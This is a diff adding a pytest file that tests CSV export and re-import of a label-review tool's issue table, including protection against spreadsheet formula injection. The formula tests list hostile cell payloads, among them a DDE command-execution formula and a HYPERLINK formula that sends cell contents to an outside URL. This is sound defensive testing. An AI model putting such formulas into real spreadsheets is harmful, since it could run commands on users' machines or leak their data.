@@ -1,0 +1,192 @@
+"""The table of issues as CSV, and what is read from it when it was filled in."""
+
+import csv
+import io
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from conftest import cases
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from review_frames import HOSTILE_ID
+
+from span_label_errors.review.decisions import read_decisions
+from span_label_errors.review.marks import Answer, Decision, RefusedDecisionsError
+from span_label_errors.review.spreadsheet import defused, restored, write_issues_csv
+
+DTYPES = {
+    "rank": "int64", "index": "int64", "id": "str", "label_quality": "float64", "is_issue": "bool", "question": "str",
+    "given_answer": "str", "given_start": "Int64", "suggested_answer": "str", "suggested_start": "Int64",
+    "suggestion_confidence": "float64", "checks": "str", "fold": "int64",
+}  # fmt: skip
+PARSERS = {
+    "str": restored,
+    "int64": int,
+    "Int64": lambda cell: int(cell) if cell else None,
+    "float64": lambda cell: float(cell or "nan"),
+    "bool": {"True": True, "False": False}.get,
+}
+
+
+def frame_of(rows: list[tuple]) -> pd.DataFrame:
+    """Make issues of (id, question, given answer, its start, suggested answer, its start, quality, confidence)."""
+    names = [
+        "id", "question", "given_answer", "given_start", "suggested_answer", "suggested_start", "label_quality",
+        "suggestion_confidence",
+    ]  # fmt: skip
+    columns = {name: [row[number] for row in rows] for number, name in enumerate(names)}
+    numbers = np.arange(len(rows))
+    columns |= {"rank": numbers + 1, "index": numbers[::-1], "is_issue": numbers < 2, "fold": numbers % 3}
+    columns["checks"] = [["", "cut_word; other"][number % 2] for number in numbers]
+    return pd.DataFrame({name: pd.Series(columns[name], dtype=dtype) for name, dtype in DTYPES.items()})
+
+
+@pytest.fixture
+def frame() -> pd.DataFrame:
+    return frame_of(
+        [
+            ("a", 'Which, "one"\r\nof;\ttwo?', "He", 0, "wrote", 3, 0.1 + 0.2, 1 / 3),
+            (HOSTILE_ID, "מתי? 😀", "", None, "\nx ", 7, 5e-324, float("nan")),
+            ("007", "", "Zürich", 22, "", None, 1.0, 0.0),
+        ]
+    )
+
+
+def cells_of(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))
+
+
+def read_back(path: Path) -> pd.DataFrame:
+    """Read a table of issues with the types that its columns have."""
+    header, *rows = cells_of(path)
+    columns = zip(header, zip(*rows, strict=True), strict=True)
+    return pd.DataFrame(
+        {
+            name: pd.Series([PARSERS[DTYPES[name]](cell) for cell in cells], dtype=DTYPES[name])
+            for name, cells in columns
+        }
+    )
+
+
+def fill_in(path: Path, correct: list[str], delimiter: str = ",") -> Path:
+    """Save a table of issues as a spreadsheet does, with a column of correct answers."""
+    out = io.StringIO(newline="")
+    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
+    writer.writerows([*row, cell] for row, cell in zip(cells_of(path), ["correct_answer", *correct], strict=True))
+    path.write_bytes(out.getvalue().encode("utf-8-sig"))
+    return path
+
+
+def test_csv_bytes(tmp_path, frame):
+    assert write_issues_csv(str(tmp_path / "new" / "i.csv"), frame.iloc[[0, 2]]) == tmp_path / "new" / "i.csv"
+    assert (tmp_path / "new" / "i.csv").read_bytes() == (
+        "\ufeffrank,index,id,label_quality,is_issue,question,given_answer,given_start,suggested_answer,"
+        "suggested_start,suggestion_confidence,checks,fold\r\n"
+        '1,2,a,0.30000000000000004,True,"Which, ""one""\r\nof;\ttwo?",He,0,wrote,3,0.3333333333333333,,0\r\n'
+        "3,0,007,1.0,False,,Zürich,22,,,0.0,,2\r\n"
+    ).encode()
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_csv_with_correct_answers_is_read(tmp_path, frame, delimiter):
+    path = write_issues_csv(tmp_path / "i.csv", frame)
+    he, zurich = (Answer("He", 0),), (Answer("Zürich", 22),)
+    assert read_decisions(fill_in(path, ["He", "here", "[no answer]"], delimiter)) == [
+        Decision("a", he, he), Decision(HOSTILE_ID, (), (Answer("here"),)), Decision("007", zurich, ()),
+    ]  # fmt: skip
+
+
+TEXTS = st.text(st.sampled_from("'=+-@,;\"\t\r\n\0 ＝xé😀") | st.characters(exclude_categories=["Cs"]), max_size=8)
+FLOATS = st.floats(0, 1)
+ROWS = st.tuples(TEXTS, TEXTS, TEXTS, st.integers(0, 2**53), TEXTS, st.none() | st.integers(0, 99), FLOATS, FLOATS)
+
+
+@settings(cases(60), suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(rows=st.lists(ROWS, min_size=1, max_size=3))
+def test_any_texts_and_numbers_come_back(tmp_path, rows):
+    # A start without an answer, or the other way round, is refused.
+    rows = [(*row[:3], row[3] if row[2] else None, *row[4:]) for row in rows]
+    frame = frame_of(rows)
+    path = write_issues_csv(tmp_path / "i.csv", frame)
+    pd.testing.assert_frame_equal(read_back(path), frame, check_exact=True)
+    decisions = read_decisions(fill_in(path, ["[no answer]"] * len(rows)))
+    given_answers = [(Answer(row[2], row[3]),) if row[2] else () for row in rows]
+    assert [(d.id, d.given) for d in decisions] == [(row[0], g) for row, g in zip(rows, given_answers, strict=True)]
+
+
+# Formulas
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1", "+1", "-1", "-", "@SUM(A1)", "\t=1", "\tx", "\r=1", "\r\n=1", "\nx", " =1", "\u00a0=1",
+        '=HYPERLINK("https://example.org/?"&A1,"x")', "=cmd|'/c calc'!A0", '=1+2";=1+2', "＝1+1", "＋1", "－1",
+        "＠SUM(A1)", "\0=1", "'=1", "''@x", "' =1",
+    ],
+)  # fmt: skip
+def test_no_cell_is_a_formula_and_the_text_comes_back(tmp_path, text):
+    path = write_issues_csv(tmp_path / "i.csv", frame_of([(text, text, text, 0, text, 5, 0.5, 0.5)]))
+    header, row = cells_of(path)
+    assert {name for name, cell in zip(header, row, strict=True) if cell == f"'{text}"} == {
+        "id", "question", "given_answer", "suggested_answer",
+    }  # fmt: skip
+    assert read_decisions(fill_in(path, ["right"])) == [Decision(text, (Answer(text, 0),), (Answer("right"),))]
+
+
+@pytest.mark.parametrize(
+    "text", ["", "'", "''", "'90s", "' x", "a=1", "1922", "(-1)", "–5", "− 5", "[no answer]", " x"]
+)
+def test_other_texts_stay_as_they_are(text):
+    assert defused(text) == restored(text) == text
+
+
+@given(st.text(st.sampled_from("'=+-@ \t\r\n\0＝xé") | st.characters(exclude_categories=["Cs"])))
+def test_every_text_is_restored_as_it_was(text):
+    cell = defused(text)
+    assert restored(cell) == text
+    assert not cell.strip().strip("\0").startswith(tuple("=+-@＝＋－＠"))
+    assert not cell.startswith(("\t", "\r", "\n", "\0"))
+
+
+# As spreadsheets save it
+
+HEADER = "rank,id,given_answer,given_start,correct_answer,correct_start"
+
+
+def read_csv(tmp_path: Path, content: str, encoding: str = "utf-8-sig") -> list[Decision]:
+    (tmp_path / "issues.csv").write_bytes(content.encode(encoding))
+    return read_decisions(tmp_path / "issues.csv")
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
+def test_what_is_filled_in_is_a_decision(tmp_path, encoding):
+    rows = [
+        HEADER, "1,a,He,0,Ulysses,", "2,b,He,0,,", "3,c,He,0,[no answer],", "4,d,He,0,He,", "5,e,,,He,3.0",
+        "6,f,Oslo,41.0, Oslo ,58", ",,,,,", '7,"a, ""b""\r\nc",He,0,"x, ""y""\r\nz",',
+    ]  # fmt: skip
+    he = (Answer("He", 0),)
+    assert read_csv(tmp_path, "\r\n".join(rows) + "\r\n", encoding) == [
+        Decision("a", he, (Answer("Ulysses"),)),
+        Decision("c", he, ()),
+        Decision("d", he, he),
+        Decision("e", (), (Answer("He", 3),)),
+        Decision("f", (Answer("Oslo", 41),), (Answer("Oslo", 58),)),
+        Decision('a, "b"\r\nc', he, (Answer('x, "y"\r\nz'),)),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("row", "message"),
+    [
+        ("1,a,He,,Ulysses,", "example 'a' \\(row 2\\): expected given_answer and given_start as they were written"),
+        ("1,a,He,0,Ulysses,3.5", "expected a whole number in correct_start, found '3.5'"),
+        ("1,a,He,-1,Ulysses,", "expected a whole number in given_start, found '-1'"),
+        ("1,a,He,0,,7", "fill in correct_answer too"),
+    ],
+)
+def test_unclear_rows_are_refused_by_id(tmp_path, row, message):
+    with pytest.raises(RefusedDecisionsError, match=message):
+        read_csv(tmp_path, f"{HEADER}\n{row}\n")
